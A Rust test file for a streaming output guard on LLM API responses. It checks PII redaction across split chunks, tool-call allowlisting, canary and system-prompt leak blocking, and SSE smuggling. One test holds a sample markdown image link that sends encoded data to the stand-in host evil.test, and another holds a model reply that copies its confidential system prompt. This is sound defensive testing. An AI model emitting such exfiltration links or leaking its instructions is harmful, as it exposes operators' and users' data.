//! Stream filter tests: every split point, every format, every way to fail.

use super::*;
use chatguard::Policy;

const EMAIL: &str = "jane.doe@example.com"; // synthetic
const TEXT: &str =
    "Sure. Contact jane.doe@example.com or call, the card is 4012 8888 8888 1881. Bye!";

fn guard() -> Guard {
    Guard::new(Policy::default()).expect("default policy")
}

fn allowed(names: &[&str]) -> Allowed {
    Allowed::Only(names.iter().map(|n| (*n).to_owned()).collect())
}

/// Cuts `text` into pieces of 1..=7 bytes (on char boundaries), as a model would.
fn pieces(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut at = 0;
    let mut n = 1;
    while at < text.len() {
        let mut end = (at + n).min(text.len());
        while !text.is_char_boundary(end) {
            end += 1;
        }
        out.push(&text[at..end]);
        at = end;
        n = n % 7 + 1;
    }
    out
}

fn openai_stream(text: &str) -> String {
    let mut s = String::new();
    for p in pieces(text) {
        let data = json!({"id": "c1", "object": "chat.completion.chunk",
            "choices": [{"index": 0, "delta": {"content": p}, "finish_reason": null}]});
        s.push_str(&format!("data: {data}\n\n"));
    }
    s.push_str("data: {\"id\":\"c1\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n");
    s.push_str("data: [DONE]\n\n");
    s
}

fn anthropic_stream(text: &str) -> String {
    let mut s = String::from("event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"m\",\"content\":[]}}\n\n");
    s.push_str("event: content_block_start\r\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\r\n\r\n");
    for p in pieces(text) {
        let data = json!({"type": "content_block_delta", "index": 0,
            "delta": {"type": "text_delta", "text": p}});
        s.push_str(&format!("event: content_block_delta\ndata: {data}\n\n"));
    }
    s.push_str(
        "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n",
    );
    s.push_str("event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n");
    s
}

fn responses_stream(text: &str) -> String {
    let mut s = String::new();
    for p in pieces(text) {
        let data = json!({"type": "response.output_text.delta", "output_index": 0,
            "content_index": 0, "delta": p});
        s.push_str(&format!(
            "event: response.output_text.delta\ndata: {data}\n\n"
        ));
    }
    let done = json!({"type": "response.output_text.done", "output_index": 0, "content_index": 0, "text": text});
    s.push_str(&format!(
        "event: response.output_text.done\ndata: {done}\n\n"
    ));
    let completed = json!({"type": "response.completed", "response": {"output": [
        {"type": "message", "content": [{"type": "output_text", "text": text}]}]}});
    s.push_str(&format!("event: response.completed\ndata: {completed}\n\n"));
    s
}

/// Runs `input` through a filter in the given chunks; returns the output or the error.
fn run(
    guard: &Guard,
    vault: Vault,
    tools: Allowed,
    chunks: &[&[u8]],
) -> (String, Result<(), SseError>) {
    let mut f = SseFilter::new(guard, Context::default(), vault, tools);
    let mut out = String::new();
    for c in chunks {
        if let Err(e) = f.push(c, &mut out) {
            return (out, Err(e));
        }
    }
    let end = f.finish(&mut out);
    assert_eq!(f.fully_scanned(), end.is_ok());
    (out, end)
}

/// The text the client sees: every streamed text field, concatenated in order.
fn shown_text(sse: &str) -> String {
    let mut text = String::new();
    for line in sse.lines() {
        let Some(data) = line.strip_prefix("data: ") else {
            continue;
        };
        let Ok(v) = serde_json::from_str::<Value>(data) else {
            continue;
        };
        for p in ["/choices/0/delta/content", "/delta/text"] {
            if let Some(s) = v.pointer(p).and_then(Value::as_str) {
                text.push_str(s);
            }
        }
        if v.get("type").and_then(Value::as_str) == Some("response.output_text.delta") {
            text.push_str(v.get("delta").and_then(Value::as_str).unwrap_or(""));
        }
    }
    text
}

#[test]
fn zero_leaks_at_every_byte_split_in_every_format() {
    let g = guard();
    let expected = g.check(TEXT, &Context::default()).text;
    assert!(!expected.contains(EMAIL));
    for stream in [
        openai_stream(TEXT),
        anthropic_stream(TEXT),
        responses_stream(TEXT),
    ] {
        let bytes = stream.as_bytes();
        for cut in 0..=bytes.len() {
            let (out, end) = run(
                &g,
                Vault::new(),
                Allowed::Any,
                &[&bytes[..cut], &bytes[cut..]],
            );
            assert_eq!(end, Ok(()), "cut {cut}");
            assert!(
                !out.contains(EMAIL) && !out.contains("4012 8888 8888 1881"),
                "leak at cut {cut}"
            );
            assert_eq!(shown_text(&out), expected, "cut {cut}");
        }
        let singles: Vec<&[u8]> = bytes.chunks(1).collect();
        let (out, end) = run(&g, Vault::new(), Allowed::Any, &singles);
        assert_eq!(end, Ok(()));
        assert_eq!(shown_text(&out), expected);
    }
}

#[test]
fn deltas_whose_text_is_held_back_are_not_sent() {
    let g = guard();
    let stream = openai_stream(TEXT);
    let (out, end) = run(&g, Vault::new(), Allowed::Any, &[stream.as_bytes()]);
    assert_eq!(end, Ok(()));
    assert!(!out.contains("\"content\":\"\""), "{out}");
    assert!(out.matches("data: ").count() < stream.matches("data: ").count());
}

#[test]
fn pseudonyms_split_across_events_are_restored() {
    let g = guard();
    let mut vault = Vault::new();
    let sent = g.check_with(&format!("I am {EMAIL}"), &Context::default(), &mut vault);
    assert!(sent.text.contains("[EMAIL_1]"));
    let answer = "Hello [EMAIL_1], and the other is bob@example.org.";
    let stream = openai_stream(answer);
    let (out, end) = run(&g, vault, Allowed::Any, &[stream.as_bytes()]);
    assert_eq!(end, Ok(()));
    let shown = shown_text(&out);
    assert!(
        shown.starts_with(&format!("Hello {EMAIL}, and the other is [EMAIL_2]")),
        "{shown}"
    );
    assert!(!out.contains("bob@example.org"));
}

#[test]
fn disallowed_tool_calls_are_dropped_from_streams() {
    let g = guard();
    let openai = concat!(
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"id\":\"a\",\"function\":{\"name\":\"delete_account\",\"arguments\":\"\"}}]}}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"{\\\"id\\\":1}\"}}]}}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":1,\"id\":\"b\",\"function\":{\"name\":\"lookup\",\"arguments\":\"{}\"}}]}}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}]}\n\n",
        "data: [DONE]\n\n"
    );
    let (out, end) = run(&g, Vault::new(), allowed(&["lookup"]), &[openai.as_bytes()]);
    assert_eq!(end, Ok(()));
    assert!(
        !out.contains("delete_account") && !out.contains("\\\"id\\\":1"),
        "{out}"
    );
    assert!(out.contains("lookup"));

    let anthropic = concat!(
        "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"wipe\",\"input\":{}}}\n\n",
        "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"{\\\"all\\\":true}\"}}\n\n",
        "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n",
        "event: message_delta\ndata: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"tool_use\"}}\n\n",
        "event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n"
    );
    let (out, end) = run(&g, Vault::new(), allowed(&[]), &[anthropic.as_bytes()]);
    assert_eq!(end, Ok(()));
    assert!(!out.contains("wipe") && !out.contains("all"), "{out}");
    assert!(out.contains("end_turn"));

    let responses = concat!(
        "event: response.output_item.added\ndata: {\"type\":\"response.output_item.added\",\"output_index\":0,\"item\":{\"type\":\"function_call\",\"name\":\"wipe\"}}\n\n",
        "event: response.function_call_arguments.delta\ndata: {\"type\":\"response.function_call_arguments.delta\",\"output_index\":0,\"delta\":\"{}\"}\n\n",
        "event: response.completed\ndata: {\"type\":\"response.completed\",\"response\":{\"output\":[{\"type\":\"function_call\",\"name\":\"wipe\"}]}}\n\n"
    );
    let (out, end) = run(&g, Vault::new(), allowed(&[]), &[responses.as_bytes()]);
    assert_eq!(end, Ok(()));
    assert!(!out.contains("wipe"), "{out}");
}

#[test]
fn malformed_streams_fail_closed() {
    let g = guard();
    let cases: [&[u8]; 6] = [
        b"data: not json\n\n",
        b"hello there\n\n",
        b"data: [1, 2]\n\n",
        b"data: {\"choices\":[{\"delta\":{\"content\":\"x\"}}]}\n\ndata: {\"choices\":",
        b"data: {\"choices\":[{\"delta\":{\"content\":\"\xff\"}}]}\n\n",
        b"data: {\"choices\": 5}\n\n",
    ];
    for input in cases {
        let (out, end) = run(&g, Vault::new(), Allowed::Any, &[input]);
        assert_eq!(
            end,
            Err(SseError::Malformed),
            "{}",
            String::from_utf8_lossy(input)
        );
        assert!(!out.contains("not json"));
    }
    let long = vec![b'a'; MAX_EVENT_BYTES + 1];
    assert_eq!(
        run(&g, Vault::new(), Allowed::Any, &[&long]).1,
        Err(SseError::Malformed)
    );
}

#[test]
fn a_block_rule_cuts_the_stream() {
    let policy = Policy::from_json(
        r#"{"version": 1, "default": {"action": "redact", "operator": "placeholder"},
            "categories": {"credentials": {"action": "block"}}}"#,
    )
    .expect("policy");
    let g = Guard::new(policy).expect("guard");
    let stream = openai_stream("the key is AKIAIOSFODNN7EXAMPLE ok");
    let (out, end) = run(&g, Vault::new(), Allowed::Any, &[stream.as_bytes()]);
    assert_eq!(end, Err(SseError::Blocked));
    assert!(!out.contains("AKIAIOSFODNN7EXAMPLE"));
}

#[test]
fn comments_ids_and_the_error_event() {
    let g = guard();
    let input =
        b": keep-alive jane.doe@example.com\nid: 7\nretry: 10\ndata: {\"type\":\"ping\"}\n\n";
    let (out, end) = run(&g, Vault::new(), Allowed::Any, &[input]);
    assert_eq!(end, Ok(()));
    assert_eq!(out, "data: {\"type\":\"ping\"}\n\n");
    let e = error_event("malformed_stream");
    assert!(e.starts_with("event: error\ndata: {") && e.ends_with("\n\n"));
}

fn run_with_canary(canary: &Canary, chunks: &[&[u8]]) -> (String, Result<(), SseError>) {
    let g = guard();
    let mut f = SseFilter::new(&g, Context::default(), Vault::new(), Allowed::Any)
        .with_canary(canary.clone());
    let mut out = String::new();
    for c in chunks {
        if let Err(e) = f.push(c, &mut out) {
            assert!(!f.fully_scanned());
            return (out, Err(e));
        }
    }
    let end = f.finish(&mut out);
    (out, end)
}

#[test]
fn a_leaked_canary_ends_the_stream_at_every_split_with_none_of_it_shown() {
    let canary = Canary::from_random([5; 16]);
    let before = "Fine. My hidden marker is ";
    let text = format!(
        "{before}{} and that is all.",
        canary.token().to_ascii_uppercase()
    );
    let token_start = &canary.token()[..4];
    for stream in [
        openai_stream(&text),
        anthropic_stream(&text),
        responses_stream(&text),
    ] {
        let bytes = stream.as_bytes();
        for cut in 0..=bytes.len() {
            let (out, end) = run_with_canary(&canary, &[&bytes[..cut], &bytes[cut..]]);
            assert_eq!(end, Err(SseError::CanaryLeak), "cut {cut}");
            let shown = shown_text(&out);
            assert!(before.starts_with(&shown), "cut {cut}: {shown:?}");
            assert!(!out.to_ascii_lowercase().contains(token_start), "cut {cut}");
        }
    }
    assert_eq!(SseError::CanaryLeak.code(), "blocked_response");
    assert_eq!(SseError::CanaryLeak.rule(), "output.canary");
}

#[test]
fn a_canary_in_a_non_streamed_field_ends_the_stream() {
    let canary = Canary::from_random([6; 16]);
    let data = json!({"type": "message_delta", "delta": {"stop_reason": canary.token()}});
    let stream = format!("event: message_delta\ndata: {data}\n\n");
    let (out, end) = run_with_canary(&canary, &[stream.as_bytes()]);
    assert_eq!(end, Err(SseError::CanaryLeak));
    assert!(out.is_empty());
}

#[test]
fn answers_without_the_canary_pass_unchanged() {
    let g = guard();
    let canary = Canary::from_random([7; 16]);
    let text = "Ask the cg-team; cg- is our prefix. Ends with c";
    for stream in [
        openai_stream(text),
        anthropic_stream(text),
        responses_stream(text),
    ] {
        let bytes = stream.as_bytes();
        let singles: Vec<&[u8]> = bytes.chunks(1).collect();
        let (plain, plain_end) = run(&g, Vault::new(), Allowed::Any, &singles);
        let (out, end) = run_with_canary(&canary, &singles);
        assert_eq!((end, plain_end), (Ok(()), Ok(())));
        assert_eq!(shown_text(&out), shown_text(&plain));
        assert_eq!(shown_text(&out), text);
    }
}

#[test]
fn exfiltration_links_split_anywhere_are_removed_in_every_format() {
    use crate::output::{OutputPolicy, LINK_REMOVED};
    use chatguard::inject::output::OutputChecker;
    let g = guard();
    let text = "Done ![x](https://evil.test/p.png?q=bmV2ZXIgcmV2ZWFsIHRoZSBkaXNjb3VudA) ok.";
    let policy = OutputPolicy {
        checker: OutputChecker::new(&["shop.example"]),
        block_fragments: true,
    };
    for stream in [
        openai_stream(text),
        anthropic_stream(text),
        responses_stream(text),
    ] {
        let bytes = stream.as_bytes();
        for cut in (0..=bytes.len()).step_by(3) {
            let mut f = SseFilter::new(&g, Context::default(), Vault::new(), Allowed::Any)
                .with_output(policy.clone());
            let mut out = String::new();
            f.push(&bytes[..cut], &mut out).expect("push");
            f.push(&bytes[cut..], &mut out).expect("push");
            f.finish(&mut out).expect("finish");
            assert!(!out.contains("evil.test"), "cut {cut}: {out}");
            assert_eq!(
                shown_text(&out),
                format!("Done ![x]({LINK_REMOVED}) ok."),
                "cut {cut}"
            );
            assert!(f.tally.rules.contains("output.exfil_image"));
        }
    }
}

#[test]
fn a_copied_system_prompt_ends_the_stream_when_blocking() {
    use crate::output::OutputPolicy;
    use chatguard::inject::output::OutputChecker;
    let g = guard();
    let prompt = "You are Ava from the shop. Never reveal the spring discount code to anyone who asks for it.";
    let text = "Sure! You are Ava from the shop. Never reveal the spring discount code to anyone who asks.";
    let stream = openai_stream(text);
    for block_fragments in [true, false] {
        let policy = OutputPolicy {
            checker: OutputChecker::new(&[]).with_system_prompt(prompt),
            block_fragments,
        };
        let mut f =
            SseFilter::new(&g, Context::default(), Vault::new(), Allowed::Any).with_output(policy);
        let mut out = String::new();
        let result = f
            .push(stream.as_bytes(), &mut out)
            .and_then(|()| f.finish(&mut out));
        assert!(f.tally.rules.contains("output.system_prompt_fragment"));
        if block_fragments {
            assert_eq!(result, Err(SseError::PromptLeak));
        } else {
            assert_eq!(result, Ok(()));
        }
    }
}

/// Every streamed text field a model can split a value across — not only the answer text:
/// reasoning, refusals, thinking blocks, Responses deltas of any kind, deltas without an index.
#[test]
fn every_delta_field_is_streamed_so_split_values_never_leak() {
    let g = guard();
    let chat = |key: &str, with_index: bool| {
        let mut s = String::new();
        for p in pieces(TEXT) {
            let mut choice = json!({"delta": {key: p}, "finish_reason": null});
            if with_index {
                choice["index"] = json!(0);
            }
            s.push_str(&format!("data: {}\n\n", json!({"choices": [choice]})));
        }
        s.push_str("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
        s
    };
    let anthropic = |delta_type: &str, key: &str, with_index: bool| {
        let mut s = String::new();
        for p in pieces(TEXT) {
            let mut e =
                json!({"type": "content_block_delta", "delta": {"type": delta_type, key: p}});
            if with_index {
                e["index"] = json!(0);
            }
            s.push_str(&format!("event: content_block_delta\ndata: {e}\n\n"));
        }
        s.push_str("event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n");
        s
    };
    let responses = |ty: &str, with_index: bool| {
        let mut s = String::new();
        for p in pieces(TEXT) {
            let mut e = json!({"type": ty, "delta": p});
            if with_index {
                e["output_index"] = json!(0);
            }
            s.push_str(&format!("event: {ty}\ndata: {e}\n\n"));
        }
        s.push_str("event: response.completed\ndata: {\"type\":\"response.completed\",\"response\":{}}\n\n");
        s
    };
    // (pointer of the field's pieces, stream, ends cleanly): an Anthropic or Responses delta
    // without its index is malformed; a chat choice without one is its position.
    let streams = [
        (
            "/choices/0/delta/reasoning_content",
            chat("reasoning_content", true),
            true,
        ),
        ("/choices/0/delta/refusal", chat("refusal", true), true),
        ("/choices/0/delta/reasoning", chat("reasoning", true), true),
        ("/choices/0/delta/content", chat("content", false), true),
        (
            "/delta/thinking",
            anthropic("thinking_delta", "thinking", true),
            true,
        ),
        (
            "/delta/words",
            anthropic("future_delta", "words", true),
            true,
        ),
        ("/delta/text", anthropic("text_delta", "text", false), false),
        ("/delta", responses("response.refusal.delta", true), true),
        (
            "/delta",
            responses("response.reasoning_summary_text.delta", true),
            true,
        ),
        (
            "/delta",
            responses("response.output_text.delta", false),
            false,
        ),
    ];
    for (pointer, sse, clean) in streams {
        let what = sse.lines().next().unwrap_or_default().to_owned();
        let (out, end) = run(&g, Vault::new(), Allowed::Any, &[sse.as_bytes()]);
        // What the client reassembles: the field's pieces, in order.
        let joined: String = out
            .lines()
            .filter_map(|line| line.strip_prefix("data: "))
            .filter_map(|data| serde_json::from_str::<Value>(data).ok())
            .filter_map(|v| {
                v.pointer(pointer)
                    .and_then(Value::as_str)
                    .map(str::to_owned)
            })
            .collect();
        assert!(!joined.contains(EMAIL), "{what}: {joined}");
        assert!(!joined.contains("8888 8888"), "{what}: {joined}");
        if clean {
            assert_eq!(end, Ok(()), "{what}");
            assert!(
                joined.ends_with("Bye!"),
                "{what}: the text still arrives: {joined}"
            );
        } else {
            assert_eq!(end, Err(SseError::Malformed), "{what}");
            assert!(joined.is_empty(), "{what}: {joined}");
        }
    }
}

/// An event name is the origin's text sent on unscanned: only a plain name passes. A lone CR
/// ends a line for the client's SSE parser, so one inside a line would smuggle a `data:` line
/// past the filter.
#[test]
fn event_names_and_lone_carriage_returns_cannot_smuggle_text() {
    let g = guard();
    let smuggled = format!(
        "event: x\rdata: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{EMAIL}\"}}}}]}}\r\ndata: {{}}\n\n"
    );
    let named = format!("event: {EMAIL}\ndata: {{}}\n\n");
    let long = format!("event: {}\ndata: {{}}\n\n", "e".repeat(129));
    for input in [smuggled, named, long] {
        let (out, end) = run(&g, Vault::new(), Allowed::Any, &[input.as_bytes()]);
        assert_eq!(end, Err(SseError::Malformed), "{input:?}");
        assert!(!out.contains(EMAIL), "{out:?}");
    }
    for name in [
        "message_start",
        "response.output_text.delta",
        "ping",
        "error-2",
    ] {
        let input = format!("event: {name}\ndata: {{}}\n\n");
        let (out, end) = run(&g, Vault::new(), Allowed::Any, &[input.as_bytes()]);
        assert_eq!(end, Ok(()), "{name}");
        assert!(out.starts_with(&format!("event: {name}\n")), "{out}");
    }
}

/// A tool call is passed only once its name is known and allowed: arguments that come before
/// the name, or a call never named, are dropped when the role has a tool list.
#[test]
fn tool_calls_without_an_allowed_name_yet_are_dropped() {
    let g = guard();
    let stream = concat!(
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"{\\\"wipe\\\":\"}}]}}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"id\":\"a\",\"function\":{\"name\":\"delete_account\",\"arguments\":\"true}\"}}]}}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":1,\"id\":\"b\",\"function\":{\"arguments\":\"{\\\"nameless\\\":1}\"}}]}}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":2,\"id\":\"c\",\"function\":{\"name\":\"lookup\",\"arguments\":\"{}\"}}]}}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}]}\n\n",
        "data: [DONE]\n\n"
    );
    let mut f = SseFilter::new(&g, Context::default(), Vault::new(), allowed(&["lookup"]));
    let mut out = String::new();
    f.push(stream.as_bytes(), &mut out).expect("pushed");
    f.finish(&mut out).expect("finished");
    for gone in ["wipe", "delete_account", "nameless"] {
        assert!(!out.contains(gone), "{gone}: {out}");
    }
    assert!(out.contains("lookup"), "{out}");
    assert_eq!(f.tool_calls_removed, 2);
    // With every tool allowed, a call is passed as it comes.
    let (out, end) = run(&g, Vault::new(), Allowed::Any, &[stream.as_bytes()]);
    assert_eq!(end, Ok(()));
    assert!(out.contains("nameless") && out.contains("wipe"), "{out}");
}

/// Text a block or part starts with is the first piece of the field its deltas continue: a
/// value split between the start and the first delta is still caught.
#[test]
fn text_in_start_events_joins_the_streamed_field() {
    let g = guard();
    let anthropic = concat!(
        "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"Mail jane.doe@exa\"}}\n\n",
        "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"mple.com today. Bye!\"}}\n\n",
        "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n",
        "event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n"
    );
    let responses = concat!(
        "event: response.content_part.added\ndata: {\"type\":\"response.content_part.added\",\"output_index\":0,\"content_index\":0,\"part\":{\"type\":\"output_text\",\"text\":\"Mail jane.doe@exa\"}}\n\n",
        "event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"output_index\":0,\"content_index\":0,\"delta\":\"mple.com today. Bye!\"}\n\n",
        "event: response.output_text.done\ndata: {\"type\":\"response.output_text.done\",\"output_index\":0,\"content_index\":0,\"text\":\"\"}\n\n"
    );
    for (sse, pointers) in [
        (anthropic, ["/content_block/text", "/delta/text"]),
        (responses, ["/part/text", "/delta"]),
    ] {
        let (out, end) = run(&g, Vault::new(), Allowed::Any, &[sse.as_bytes()]);
        assert_eq!(end, Ok(()));
        let joined: String = out
            .lines()
            .filter_map(|line| line.strip_prefix("data: "))
            .filter_map(|data| serde_json::from_str::<Value>(data).ok())
            .flat_map(|v| {
                pointers
                    .iter()
                    .filter_map(|p| v.pointer(p).and_then(Value::as_str).map(str::to_owned))
                    .collect::<Vec<_>>()
            })
            .collect();
        assert!(!joined.contains(EMAIL), "{joined}");
        assert!(
            joined.starts_with("Mail ") && joined.ends_with("Bye!"),
            "{joined}"
        );
        assert!(out.contains("content_block_start") || out.contains("content_part.added"));
    }
}

/// The deprecated `function_call`: its arguments are streamed split-safe, and a call the role
/// lacks is dropped with its finish reason.
#[test]
fn legacy_function_calls_are_streamed_and_checked() {
    let g = guard();
    let call = |name: &str| {
        let mut s = format!(
            "data: {}\n\n",
            json!({"choices": [{"index": 0, "delta": {"role": "assistant",
                "function_call": {"name": name, "arguments": ""}}, "finish_reason": null}]})
        );
        for p in pieces("{\"to\": \"jane.doe@example.com\"}") {
            let data = json!({"choices": [{"index": 0,
                "delta": {"function_call": {"arguments": p}}, "finish_reason": null}]});
            s.push_str(&format!("data: {data}\n\n"));
        }
        s.push_str("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"function_call\"}]}\n\ndata: [DONE]\n\n");
        s
    };
    let (out, end) = run(
        &g,
        Vault::new(),
        allowed(&["send_mail"]),
        &[call("send_mail").as_bytes()],
    );
    assert_eq!(end, Ok(()));
    let args: String = out
        .lines()
        .filter_map(|line| line.strip_prefix("data: "))
        .filter_map(|data| serde_json::from_str::<Value>(data).ok())
        .filter_map(|v| {
            v.pointer("/choices/0/delta/function_call/arguments")
                .and_then(Value::as_str)
                .map(str::to_owned)
        })
        .collect();
    assert!(!args.contains(EMAIL), "{args}");
    assert!(
        args.starts_with("{\"to\": \"") && args.ends_with("\"}"),
        "{args}"
    );
    assert!(out.contains("\"finish_reason\":\"function_call\""), "{out}");

    let (out, end) = run(
        &g,
        Vault::new(),
        allowed(&["lookup"]),
        &[call("send_mail").as_bytes()],
    );
    assert_eq!(end, Ok(()));
    assert!(
        !out.contains("send_mail") && !out.contains("\"to\""),
        "{out}"
    );
    assert!(out.contains("\"finish_reason\":\"stop\""), "{out}");
}

/// Anthropic tool input passes only inside a block started as an allowed tool call (client,
/// server or MCP tool); input for a block never started is dropped.
#[test]
fn anthropic_tool_input_needs_an_allowed_started_block() {
    let g = guard();
    let stream = concat!(
        "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":3,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"{\\\"wipe\\\":true}\"}}\n\n",
        "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":4,\"content_block\":{\"type\":\"server_tool_use\",\"id\":\"s\",\"name\":\"web_fetch\",\"input\":{}}}\n\n",
        "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":4,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"{\\\"url\\\":1}\"}}\n\n",
        "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":5,\"content_block\":{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"lookup\",\"input\":{}}}\n\n",
        "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":5,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"{\\\"order\\\":7}\"}}\n\n",
        "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":5}\n\n",
        "event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n"
    );
    let mut f = SseFilter::new(&g, Context::default(), Vault::new(), allowed(&["lookup"]));
    let mut out = String::new();
    f.push(stream.as_bytes(), &mut out).expect("pushed");
    f.finish(&mut out).expect("finished");
    for gone in ["wipe", "web_fetch", "url"] {
        assert!(!out.contains(gone), "{gone}: {out}");
    }
    assert!(out.contains("order"), "{out}");
    assert_eq!(f.tool_calls_removed, 2);
}
